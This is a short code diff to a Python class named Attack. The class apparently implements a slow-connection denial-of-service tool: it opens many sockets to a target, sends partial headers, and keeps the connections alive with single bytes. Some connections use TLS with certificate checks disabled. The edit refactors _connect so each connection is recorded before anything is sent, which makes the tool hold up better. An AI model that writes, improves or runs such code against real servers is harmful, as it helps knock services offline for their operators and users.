@@ -42,7 +42,7 @@ class Attack:
             for place in places:
                 try:
                     if self._open[place] is None:
-                        self._open[place] = self._connect(place)
+                        self._connect(place)
                         self.opened += 1
                     else:
                         self._open[place].send(b"x")
@@ -54,15 +54,14 @@ class Attack:
             self._drop(place)
 
     def _connect(self, place):
+        """Open a place's connection; it is kept before anything is sent, so that it is closed."""
         made = socket.create_connection(self._to, 5, (self._source, 0))
         if place % 10 == 9:
             context = ssl.create_default_context()
             context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
             made = context.wrap_socket(made)
-            made.send(HEADER)
-        else:
-            made.send(HELLO)
-        return made
+        self._open[place] = made
+        made.send(HEADER if place % 10 == 9 else HELLO)
 
     def _look(self, one):
         """Raise OSError where the other side has hung up."""
